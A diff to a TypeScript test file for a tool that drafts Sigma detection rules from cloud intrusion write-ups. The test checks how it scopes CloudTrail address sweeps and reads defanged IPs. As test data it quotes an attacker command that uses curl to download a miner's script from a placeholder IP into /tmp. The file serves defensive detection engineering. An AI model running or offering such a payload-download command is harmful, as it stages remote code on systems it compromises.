@@ -3,7 +3,7 @@ import { validateRuleDocument } from '../validate/validate-rule';
 import { fidelityCheck } from '../vetting/fidelity';
 import { detectionValues } from '../vetting/detection-values';
 import { generateBuiltinRules, type BuiltinSigmaInput } from './builtin-sigma-agent';
-import { statedCloudBehaviours } from './cloud-rules';
+import { cloudSourceAddresses, statedCloudBehaviours } from './cloud-rules';
 
 // Cloud and identity intrusions written for these tests: what an AWS, Entra ID or Okta write-up says, in the
 // words such write-ups use. None comes from a fixture article.
@@ -75,11 +75,18 @@ describe('cloud and identity behaviour rules', () => {
     expect(sweep?.rule.description).toContain('ListBuckets');
   });
 
-  it('keeps an endpoint connection rule when the article also quotes commands', () => {
-    const cmdline = { value: 'curl -s http://198.51.100.23/x.sh -o /tmp/x.sh', executable: 'curl', evidence, confidence: 0.9 };
-    const drafts = rulesOf(AWS_NOTE, ['198.51.100.23'], { cmdlines: [cmdline] });
+  it('keeps an endpoint connection rule when the article also quotes commands, sweeping in CloudTrail only the addresses the calls came from', () => {
+    const cmdline = { value: 'curl -s http://198.51.100.99/x.sh -o /tmp/x.sh', executable: 'curl', evidence, confidence: 0.9 };
+    const note = `${AWS_NOTE}\nOn the instance the miner then fetched its script from 198.51.100.99.`;
+    const drafts = rulesOf(note, ['198.51.100.23', '198.51.100.99'], { cmdlines: [cmdline] });
     expect(drafts.some((draft) => draft.telemetryClass === 'network_connection')).toBe(true);
-    expect(drafts.some((draft) => draft.telemetryClass === 'cloud_indicator')).toBe(false);
+    const swept = drafts.filter((draft) => draft.telemetryClass === 'cloud_indicator');
+    expect(swept.map((draft) => draft.rule.detection['selection'])).toEqual([{ sourceIPAddress: ['198.51.100.23'] }]);
+    expect(selfTestGenerated(swept[0]?.rule as unknown as Record<string, unknown>, observables(['198.51.100.23']), note).fires).toBe(true);
+    // Written defanged, the address is the same one.
+    expect(
+      cloudSourceAddresses('CloudTrail showed the calls came from 198.51.100[.]23.', [{ kind: 'ipv4', value: '198.51.100.23' }]),
+    ).toEqual(['198.51.100.23']);
   });
 
   it('reads Entra ID behaviours from prose and sweeps the addresses in the sign-in logs', () => {
